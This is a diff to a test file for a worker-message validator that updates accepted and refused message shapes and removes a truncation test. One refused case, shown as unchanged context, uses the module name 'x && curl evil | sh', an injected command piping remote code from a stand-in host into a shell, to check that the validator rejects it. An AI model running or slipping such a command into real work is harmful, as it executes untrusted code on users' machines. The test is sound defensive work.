@@ -8,10 +8,12 @@ for (const message of [
   { kind: "progress", phase: "download", loaded: 0, total: 1 },
   { kind: "ready", startedFrom: "kept image" },
   { kind: "output", stream: "stderr", text: "text" },
-  { kind: "capped", limit: 10, unit: "writes" },
+  { kind: "capped", limit: 5_000, unit: "writes" },
+  { kind: "capped", limit: 100_000, unit: "characters" },
   finished,
-  { kind: "broken", reason: "it broke" },
-  { kind: "unavailable", reason: "not there" },
+  { kind: "broken", cause: "nested too deep" },
+  { kind: "unavailable", problem: "cut off", file: "rest.zip" },
+  { kind: "unavailable", problem: "other", file: null },
   { kind: "image kept" },
 ]) {
   test(`a message of our worker is valid: ${message.kind}`, () => {
@@ -36,14 +38,15 @@ for (const [what, message] of Object.entries({
   "a total of zero": { kind: "progress", phase: "start", loaded: 0, total: 0 },
   "more output than the limit": { kind: "output", stream: "stdout", text: "x".repeat(100_001) },
   "a module name with other text": { ...finished, missing: "x && curl evil | sh" },
+  "a limit that is not ours": { kind: "capped", limit: 5_550_100, unit: "characters" },
+  "a limit of the other unit": { kind: "capped", limit: 5_000, unit: "characters" },
+  "a cause in its own words": { kind: "broken", cause: "Call 555-0100" },
+  "a cause of the prototype's": { kind: "broken", cause: "constructor" },
+  "a cause that reads like one": { kind: "broken", cause: ["other"] },
+  "a file that is none of ours": { kind: "unavailable", problem: "damaged", file: "your-edits.py" },
   "a name too long to read": { ...finished, missing: "x".repeat(10_000) },
 })) {
   test(`a message that our worker never sends is refused: ${what}`, () => {
     assert.equal(validateMessage(message).kind, "broken");
   });
 }
-
-test("a long reason is cut", () => {
-  const message = validateMessage({ kind: "broken", reason: "x".repeat(10_000) });
-  assert.equal(message.kind === "broken" && message.reason.length, 300);
-});
